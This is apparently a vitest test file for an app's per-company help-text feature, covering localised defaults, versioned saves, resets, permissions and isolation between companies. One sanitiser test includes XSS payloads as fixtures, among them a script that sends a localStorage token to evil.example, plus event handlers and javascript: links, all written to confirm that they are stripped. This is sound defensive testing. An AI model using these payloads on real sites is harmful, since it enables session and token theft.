import { readdir } from 'node:fs/promises';
import path from 'node:path';
import { HELP_MARKDOWN_MAX_LENGTH, type HelpTextDto, isHelpScreen } from '@karm/domain/contract';
import { LOCALES } from '@karm/domain/i18n';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type SignedInUser, startTestServer, type TestServer } from '../../test/test-server';
import { HELP_DEFAULTS_FOLDER, screensWithDefaults } from './help-defaults';

let server: TestServer;
let admin: SignedInUser;
let staff: SignedInUser;
let otherAdmin: SignedInUser;
let otherStaff: SignedInUser;
beforeAll(async () => {
  server = await startTestServer();
  admin = await server.signedInUser({ role: 'admin', firstName: 'Hilde', lastName: 'Hjelp' });
  staff = await server.signedInUser({ companyId: admin.companyId });
  otherAdmin = await server.signedInUser({ role: 'admin' });
  otherStaff = await server.signedInUser({ companyId: otherAdmin.companyId });
});
afterAll(async () => {
  await server?.close();
});

const textOf = async (user: SignedInUser, screen: HelpTextDto['screen'], locale: HelpTextDto['locale']) => {
  const all = await user.client.request('help:list');
  const found = all.find((text) => text.screen === screen && text.locale === locale);
  if (!found) throw new Error(`help:list has no ${screen}/${locale}`);
  return found;
};

/** The next help:changed push that `matches` (an earlier test's push may still be on its way). */
const nextHelpPush = (user: SignedInUser, matches: (text: HelpTextDto) => boolean) =>
  new Promise<HelpTextDto>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('No matching help:changed push')), 5_000);
    const listener = (text: HelpTextDto) => {
      if (!matches(text)) return;
      clearTimeout(timer);
      user.client.socket.off('help:changed', listener);
      resolve(text);
    };
    user.client.socket.on('help:changed', listener);
  });

/** The screens Karm ships a built-in text for: every screen that exists today. */
const SCREENS_WITH_DEFAULTS = [
  'dashboard',
  'projectControl',
  'projects',
  'serviceProjects',
  'serviceDue',
  'offer',
  'inquiries',
  'customer',
  'priceCalculator',
  'files',
  'admin',
  'company',
  'profile',
  'logs',
  'ServiceTemplate',
  'convertDownload',
  'planner',
  'tasks',
  'capacity',
  'service-project-details',
  'messages',
  'calendar',
  'report',
];

describe('built-in help', () => {
  it.each(LOCALES)(
    'has a text for every screen that exists today in %s, and no file for an unknown screen',
    async (locale) => {
      expect((await screensWithDefaults(locale)).sort()).toEqual([...SCREENS_WITH_DEFAULTS].sort());
      const files = await readdir(path.join(HELP_DEFAULTS_FOLDER, locale));
      expect(files.filter((file) => !isHelpScreen(file.replace(/\.md$/, '')))).toEqual([]);
    },
  );

  it('is what a member reads for a screen the company has not written, in the asked language', async () => {
    const english = await staff.client.request('help:get', { screen: 'projects', locale: 'en' });
    const norwegian = await staff.client.request('help:get', { screen: 'projects', locale: 'nb' });
    expect(english).toMatchObject({ screen: 'projects', locale: 'en', source: 'default' });
    expect(english.html).toContain('<h2>Projects</h2>');
    expect(norwegian.html).toContain('<h2>Prosjekter</h2>');
  });

  it('says there is none for a screen with neither a company nor a built-in text', async () => {
    expect(await staff.client.request('help:get', { screen: 'convertSubscriptions', locale: 'nb' })).toEqual({
      screen: 'convertSubscriptions',
      locale: 'nb',
      source: 'none',
      html: '',
    });
  });
});

describe('help texts of the company', () => {
  it('an admin saves a text, members read it sanitised, and the company is told', async () => {
    const before = await textOf(admin, 'offer', 'en');
    expect(before).toMatchObject({ source: 'default', version: 0, hasDefault: true, updatedBy: null });
    expect(before.markdown).toContain('## Offers');

    const pushed = nextHelpPush(staff, (text) => text.screen === 'offer');
    const saved = await admin.client.request('help:save', {
      screen: 'offer',
      locale: 'en',
      version: 0,
      markdown: '## Our offers\n\nAsk [the office](https://office.example.no) before **any** discount.',
    });
    expect(saved).toMatchObject({
      screen: 'offer',
      locale: 'en',
      source: 'company',
      version: 1,
      hasDefault: true,
      updatedBy: { id: admin.userId, displayName: 'Hilde Hjelp' },
      html: '<h2>Our offers</h2>\n<p>Ask <a href="https://office.example.no" rel="noopener noreferrer" target="_blank">the office</a> before <strong>any</strong> discount.</p>',
    });
    expect(saved.updatedAt).toBe(server.clock.now().toISOString());
    await expect(pushed).resolves.toEqual(saved);

    expect(await staff.client.request('help:get', { screen: 'offer', locale: 'en' })).toEqual({
      screen: 'offer',
      locale: 'en',
      source: 'company',
      html: saved.html,
    });
    // The other language keeps its built-in text.
    expect((await staff.client.request('help:get', { screen: 'offer', locale: 'nb' })).source).toBe(
      'default',
    );
    expect(await textOf(admin, 'offer', 'en')).toEqual(saved);

    const again = await admin.client.request('help:save', {
      screen: 'offer',
      locale: 'en',
      version: 1,
      markdown: '## Our offers\n\nEvery discount over 10 % needs a second pair of eyes.',
    });
    expect(again).toMatchObject({ version: 2, source: 'company' });
  });

  it('a screen without a built-in text gets one of its own and loses it again on reset', async () => {
    const saved = await admin.client.request('help:save', {
      screen: 'convertSubscriptions',
      locale: 'nb',
      version: 0,
      markdown: 'Abonnementene kommer snart.',
    });
    expect(saved).toMatchObject({ source: 'company', hasDefault: false });
    const reset = await admin.client.request('help:reset', {
      screen: 'convertSubscriptions',
      locale: 'nb',
      version: 1,
    });
    expect(reset).toMatchObject({ source: 'none', markdown: '', html: '', version: 0, updatedBy: null });
  });

  it('refuses a stale version or a second first save, changing nothing', async () => {
    const first = await admin.client.request('help:save', {
      screen: 'company',
      locale: 'nb',
      version: 0,
      markdown: 'Første tekst',
    });
    const racing = await admin.client.requestError('help:save', {
      screen: 'company',
      locale: 'nb',
      version: 0,
      markdown: 'Samtidig første tekst',
    });
    const stale = await admin.client.requestError('help:save', {
      screen: 'company',
      locale: 'nb',
      version: first.version + 1,
      markdown: 'Fra framtiden',
    });
    const staleReset = await admin.client.requestError('help:reset', {
      screen: 'company',
      locale: 'nb',
      version: first.version + 1,
    });
    expect([racing.code, stale.code, staleReset.code]).toEqual(['CONFLICT', 'CONFLICT', 'CONFLICT']);
    expect(await textOf(admin, 'company', 'nb')).toEqual(first);
  });

  it('a reset brings back the built-in text, and the company is told', async () => {
    const saved = await admin.client.request('help:save', {
      screen: 'profile',
      locale: 'en',
      version: 0,
      markdown: 'Ours',
    });
    const pushed = nextHelpPush(staff, (text) => text.screen === 'profile' && text.source === 'default');
    const reset = await admin.client.request('help:reset', {
      screen: 'profile',
      locale: 'en',
      version: saved.version,
    });
    expect(reset).toMatchObject({ source: 'default', version: 0, updatedAt: null, updatedBy: null });
    expect(reset.html).toContain('<h2>Profile</h2>');
    await expect(pushed).resolves.toEqual(reset);
    expect((await staff.client.request('help:get', { screen: 'profile', locale: 'en' })).source).toBe(
      'default',
    );
  });

  it('stores nothing that runs: scripts, styles, frames, handlers and javascript: links are removed', async () => {
    const attack = [
      '# Help',
      '<script>fetch("https://evil.example/?" + localStorage.token)</script>',
      '<style>body { display: none }</style>',
      '<iframe src="https://evil.example"></iframe>',
      '<img src="x" onerror="alert(1)">',
      '<p onmouseover="alert(1)" style="position:fixed">Hover</p>',
      '[Click](javascript:alert(document.cookie)) [Data](data:text/html,<script>alert(1)</script>)',
      '<a href="JaVaScRiPt:alert(1)">Mixed case</a> <a href="https://ok.example" target="_self">Fine</a>',
    ].join('\n\n');
    const preview = await admin.client.request('help:preview', { markdown: attack });
    const saved = await admin.client.request('help:save', {
      screen: 'logs',
      locale: 'en',
      version: 0,
      markdown: attack,
    });
    expect(saved.html).toBe(preview.html);
    expect(saved.markdown).toBe(attack);
    for (const forbidden of [
      '<script',
      '<style',
      '<iframe',
      '<img',
      'onerror',
      'onmouseover',
      'style=',
      'javascript:',
      'JaVaScRiPt',
      'data:',
    ]) {
      expect(saved.html).not.toContain(forbidden);
    }
    expect(saved.html).toContain('<p>Hover</p>');
    const fineLink = /<a href="https:\/\/ok\.example"[^>]*>Fine<\/a>/.exec(saved.html)?.[0] ?? '';
    expect(fineLink).toContain('rel="noopener noreferrer"');
    expect(fineLink).toContain('target="_blank"');
    expect((await staff.client.request('help:get', { screen: 'logs', locale: 'en' })).html).toBe(saved.html);
  });

  it('refuses empty, too long, unknown and NUL input, and a text that is nothing but removed markup', async () => {
    const before = await textOf(admin, 'inquiries', 'en');
    const attempts = [
      { screen: 'inquiries', locale: 'en', version: 0, markdown: '   ' },
      { screen: 'inquiries', locale: 'en', version: 0, markdown: 'x'.repeat(HELP_MARKDOWN_MAX_LENGTH + 1) },
      { screen: 'inquiries', locale: 'en', version: 0, markdown: 'Text\u0000' },
      { screen: 'inquiries', locale: 'de', version: 0, markdown: 'Hilfe' },
      { screen: 'nowhere', locale: 'en', version: 0, markdown: 'Help' },
      { screen: 'inquiries', locale: 'en', version: -1, markdown: 'Help' },
      { screen: 'inquiries', locale: 'en', version: 0, markdown: '<script>alert(1)</script>' },
    ];
    for (const attempt of attempts) {
      const error = await admin.client.requestError('help:save', attempt as never);
      expect(error.code).toBe('VALIDATION');
    }
    expect(await textOf(admin, 'inquiries', 'en')).toEqual(before);
  });

  it('leaves writing to administrators: staff may only read', async () => {
    const attempts = [
      ['help:list', undefined],
      ['help:save', { screen: 'projects', locale: 'en', version: 0, markdown: 'Taken over' }],
      ['help:reset', { screen: 'offer', locale: 'en', version: 2 }],
      ['help:preview', { markdown: 'x' }],
    ] as const;
    for (const [event, input] of attempts) {
      expect((await staff.client.requestError(event, input as never)).code).toBe('FORBIDDEN');
    }
    expect((await staff.client.request('help:get', { screen: 'projects', locale: 'en' })).source).toBe(
      'default',
    );
    expect((await staff.client.request('help:get', { screen: 'offer', locale: 'en' })).source).toBe(
      'company',
    );
  });
});

describe('company isolation', () => {
  it("never shows or changes another company's help", async () => {
    const ours = await admin.client.request('help:save', {
      screen: 'customer',
      locale: 'nb',
      version: 0,
      markdown: 'Bare for oss',
    });
    // Another company's administrator cannot reach our text, whichever version they state.
    const theirReset = await otherAdmin.client.requestError('help:reset', {
      screen: 'customer',
      locale: 'nb',
      version: ours.version,
    });
    expect(theirReset.code).toBe('CONFLICT');
    const theirs = await otherAdmin.client.request('help:save', {
      screen: 'customer',
      locale: 'nb',
      version: 0,
      markdown: 'Bare for dem',
    });
    expect(theirs).toMatchObject({ version: 1, source: 'company' });

    expect((await otherStaff.client.request('help:get', { screen: 'customer', locale: 'nb' })).html).toBe(
      '<p>Bare for dem</p>',
    );
    expect((await staff.client.request('help:get', { screen: 'customer', locale: 'nb' })).html).toBe(
      '<p>Bare for oss</p>',
    );
    expect(await textOf(admin, 'customer', 'nb')).toEqual(ours);
    const otherList = await otherAdmin.client.request('help:list');
    expect(otherList.filter((text) => text.source === 'company').map((text) => text.screen)).toEqual([
      'customer',
    ]);
  });
});
